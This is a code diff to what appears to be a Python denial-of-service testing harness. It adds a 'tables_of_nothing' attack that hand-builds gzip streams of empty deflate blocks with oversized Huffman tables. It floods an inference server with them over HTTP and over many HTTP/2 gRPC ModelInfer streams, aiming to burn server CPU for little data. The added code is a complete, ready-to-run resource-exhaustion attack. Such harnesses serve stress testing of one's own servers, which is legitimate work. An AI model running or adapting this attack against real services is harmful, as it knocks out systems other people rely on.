@@ -1,8 +1,9 @@
 """Requests that cost a shard much time for few bytes, or for many."""
 
 import json
+import threading
 
-from peer import GZIP, H2, JSON, Raw, ask, binary_infer, flat_bits, packed, post
+from peer import GRPC, GZIP, H2, JSON, Raw, ask, binary_infer, data, flat_bits, grpc_message, packed, post
 from registry import attack
 
 import numpy
@@ -117,3 +118,66 @@ def model_pages(target):
             while len(h2.closed_streams) < 90 and not target.over() and h2.pump(wait=0.1):
                 pass
     return f'{asked} pages'
+
+
+class Bits:
+    """The bit stream of RFC 1951: numbers from their lowest bit on, codes from their highest."""
+
+    def __init__(self):
+        self.value = self.count = 0
+
+    def number(self, number, bits):
+        self.value |= number << self.count
+        self.count += bits
+
+    def code(self, code, bits):
+        self.number(int(f'{code:0{bits}b}'[::-1], 2), bits)
+
+
+def empty_blocks():
+    """Eight blocks of RFC 1951 §3.2.7 with tables as large as 225 bits can say, in which nothing but the end is coded."""
+    falling = list(range(2, 16)) + [15]  # lengths of a complete code, with the 1 of the end of the block
+    lengths = [(n, 0, 0) for n in falling] + [(18, 138 - 11, 7), (18, 103 - 11, 7), (1, 0, 0)] + [(n, 0, 0) for n in [1, *falling]]
+    symbols = sorted({symbol for symbol, _, _ in lengths})  # of the code for lengths: 16 of 4 bits each
+    bits = Bits()
+    for _ in range(8):
+        bits.number(0b100, 3)
+        for number, size in ((0, 5), (15, 5), (15, 4)):
+            bits.number(number, size)
+        for symbol in (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15):
+            bits.number(4 if symbol in symbols else 0, 3)
+        for symbol, extra, size in lengths:
+            bits.code(symbols.index(symbol), 4)
+            bits.number(extra, size)
+        bits.code(0, 1)
+    assert bits.count % 8 == 0
+    return bits.value.to_bytes(bits.count // 8, 'little')
+
+
+@attack(seconds=20, quick=4)
+def tables_of_nothing(target):
+    """Coded bodies that come to nothing: Huffman tables without end, for HTTP's and gRPC's gzip."""
+    head = bytes.fromhex('1f8b08000000000000ff')
+    octets = empty_blocks() * (target.size(48, 8) * MIB // 225)
+    request = post(INFER, head + octets, JSON, GZIP)
+
+    def over_h2():
+        while not target.over():
+            with H2(target, wait=5) as h2:
+                h2.pump(0.2)
+                fields = (*GRPC, ('grpc-encoding', 'gzip'))
+                message = grpc_message(head + octets[:MIB], 1)
+                for stream in range(1, 40, 2):
+                    h2.send(h2.head(stream, '/inference.GRPCInferenceService/ModelInfer', 'POST', end=False, extra=fields))
+                    for at in range(0, len(message), 16000):
+                        h2.send(data(stream, message[at:at + 16000], end=at + 16000 >= len(message)))
+                    if target.over() or not h2.pump():
+                        break
+                while not target.over() and h2.pump(0.1) and len(h2.closed_streams) < 20:
+                    pass
+
+    other = threading.Thread(target=over_h2)
+    other.start()
+    did = again(target, request, wait=30)
+    other.join()
+    return did
